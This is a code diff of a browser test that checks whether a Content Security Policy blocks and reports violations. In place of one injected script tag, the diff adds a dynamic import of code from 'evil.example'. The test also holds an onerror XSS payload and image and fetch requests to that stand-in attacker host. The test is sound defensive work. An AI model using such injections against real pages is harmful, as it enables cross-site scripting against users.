@@ -8,13 +8,11 @@ test('what the policy refuses is seen, so that no journey can break it unnoticed
   expect(await policy.take()).toEqual([])
 
   const wasRun = await page.evaluate(async () => {
-    const script = document.createElement('script')
     const style = document.createElement('style')
     const image = document.createElement('img')
-    script.src = 'https://evil.example/a.js'
     style.append('body { color: red }')
     image.src = 'https://evil.example/a.png'
-    document.head.append(script, style, image)
+    document.head.append(style, image)
     await fetch('https://evil.example/').catch(() => undefined)
     try {
       document.body.innerHTML = '<img src=x onerror="window.wasRun = true">'
@@ -24,6 +22,8 @@ test('what the policy refuses is seen, so that no journey can break it unnoticed
     return true
   })
 
+  // As text, so that nothing between here and the page makes another kind of import of it.
+  await page.evaluate("import('https://evil.example/a.js').catch(() => undefined)")
   expect(wasRun).toBe(false)
   const seen: string[] = []
   for (const directive of ['script-src', 'style-src', 'img-src', 'connect-src']) {
